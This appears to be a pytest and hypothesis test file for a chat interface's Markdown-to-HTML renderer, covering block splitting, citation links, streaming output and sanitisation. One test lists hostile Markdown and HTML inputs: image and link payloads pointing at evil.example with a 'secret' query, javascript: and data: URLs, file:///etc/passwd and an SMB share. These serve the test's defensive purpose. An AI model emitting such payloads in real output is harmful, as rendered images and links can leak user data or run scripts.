from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ui.markdown import Code, Markdown, Prose, Stream, tidy
from ui.prosehtml import Style
from ui.theme import LIGHT

MARKDOWN = Markdown()
STYLE = Style(LIGHT, 15, frozenset({1, 2}))

ANSWER = """The tyres are at **Müller** [1].

| When | What |
|---|---:|
| Thu | Flight |

- one
- two

```python
print("x")
```

The end [2]."""

MARKED = st.text(
    alphabet=st.sampled_from(list("ab *_`~#>|[](){}!<&\"'\n-+1.:/=")) | st.characters(max_codepoint=0x2FF), max_size=120
)


class _Tags(HTMLParser):
    """Collects what a document could load or follow."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loads: list[str] = []
        self.links: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        given = dict(attrs)
        self.loads += [value or "" for name, value in attrs if name in ("src", "background", "srcset", "data")]
        self.links += [given["href"] or ""] if "href" in given else []

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def read(html: str) -> _Tags:
    tags = _Tags()
    tags.feed(html)
    return tags


def test_an_answer_falls_into_prose_and_code() -> None:
    before, code, after = MARKDOWN.blocks(ANSWER)
    assert isinstance(before, Prose) and before.source.startswith("The tyres") and before.source.endswith("- two")
    assert code == Code("python", 'print("x")', closed=True)
    assert after == Prose("The end [2].")


def test_marks_become_pills_only_for_known_sources() -> None:
    html = MARKDOWN.html("Both [1] and [7] and `[1]` and [1](x).", STYLE)
    assert read(html).links == ["cite:1"]
    assert "[7]" in html and ">[1]</span>" in html


@pytest.mark.parametrize(
    "hostile",
    [
        "![](file:///etc/hostname)",
        "![x](http://evil.example/?q=secret)",
        "<img src='http://evil.example/'>",
        "<a href='javascript:x()'>x</a>",
        "[x](javascript:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](smb://evil/share)",
        "[x](data:text/html,x)",
        "[x](cite:9)",
        "[x]: http://evil.example\n\n[x]",
        "<style>@import 'http://evil.example/'</style>",
    ],
)
def test_nothing_can_be_loaded_or_followed_unseen(hostile: str) -> None:
    found = read(MARKDOWN.html(hostile, STYLE))
    assert found.loads == []
    assert [link for link in found.links if not link.startswith(("http://", "https://"))] == []
    assert found.tags <= {"p", "span", "a", "br"}


def test_what_looks_like_a_tag_is_shown_as_text() -> None:
    text = "Use `a<b>` and List<String> here <thinking>hidden?</thinking>"
    assert "".join(read(MARKDOWN.html(text, STYLE)).words) == text.replace("`", "")


@given(MARKED)
def test_no_text_makes_html_of_its_own(text: str) -> None:
    found = read(MARKDOWN.html(text, STYLE))
    known = {"p", "span", "a", "br", "ul", "ol", "li", "table", "thead", "tbody", "tr", "td", "hr", "pre", "img"}
    assert found.tags <= known
    assert all(re.fullmatch(r"cite:[12]/light", address) for address in found.loads)


PIECES = "alpha beta gamma <b> </b> <thinking> List<String> &amp; * ** ` ~~ \n \n\n |".split(" ")
STARTS = ["", "- ", "1. ", "# ", "> ", "| "]


@given(st.lists(st.tuples(st.sampled_from(STARTS), st.lists(st.sampled_from([*PIECES, " "]), max_size=8)), max_size=5))
def test_no_words_are_lost(lines: list[tuple[str, list[str]]]) -> None:
    text = "\n".join(start + "".join(pieces) for start, pieces in lines)
    text = re.sub(r"(`{3,}|~{3,})", lambda run: run.group()[:2], text)  # the language of a fence is not a word
    shown = "".join(read(MARKDOWN.html(text, Style(LIGHT, 15))).words)
    words = re.compile("alpha|beta|gamma|thinking|String")
    assert words.findall(shown) == words.findall(text)


@settings(max_examples=400)
@given(st.lists(MARKED, max_size=5).map("\n\n".join), st.integers(1, 9))
def test_a_stream_ends_with_the_same_blocks_as_the_whole(text: str, step: int) -> None:
    stream, closed, last = Stream(MARKDOWN), [], None
    for end in range(step, len(text) + step, step):
        more, last = stream.feed(text[:end])
        closed += more
    whole = MARKDOWN.separate(text)
    match last:
        case Prose(source):
            closed += MARKDOWN.separate(source)
        case Code():
            closed.append(last)
    assert closed == whole


@pytest.mark.parametrize(
    ("half", "shown"),
    [
        ("the **Hot", "the **Hot**"),
        ("code `LX-", "code `LX-`"),
        ("at Müller [1", "at Müller"),
        ("at Müller [", "at Müller"),
        ("at *", "at"),
        ("done **bold** and `code`", "done **bold** and `code`"),
        ("one **bold\n\ntwo", "one **bold\n\ntwo"),
    ],
)
def test_half_a_mark_does_not_show_while_it_is_written(half: str, shown: str) -> None:
    assert tidy(half) == shown


def test_a_stream_only_looks_again_at_what_can_still_change() -> None:
    stream = Stream(MARKDOWN)
    first, last = stream.feed("One.\n\nTwo")
    assert first == [] and last == Prose("One.\n\nTwo")
    first, last = stream.feed("One.\n\nTwo\nmore")
    assert first == [Prose("One.")] and last == Prose("Two\nmore")
    first, last = stream.feed("One.\n\nTwo\nmore grows")
    assert first == [] and last == Prose("Two\nmore grows")
    first, last = stream.feed("One.\n\nTwo\nmore\n\n```py\nx = 1")
    assert first == [Prose("Two\nmore")] and last == Code("py", "x = 1", closed=False)
    first, last = stream.feed("One.\n\nTwo\nmore\n\n```py\nx = 1\n```")
    assert last == Code("py", "x = 1", closed=True)
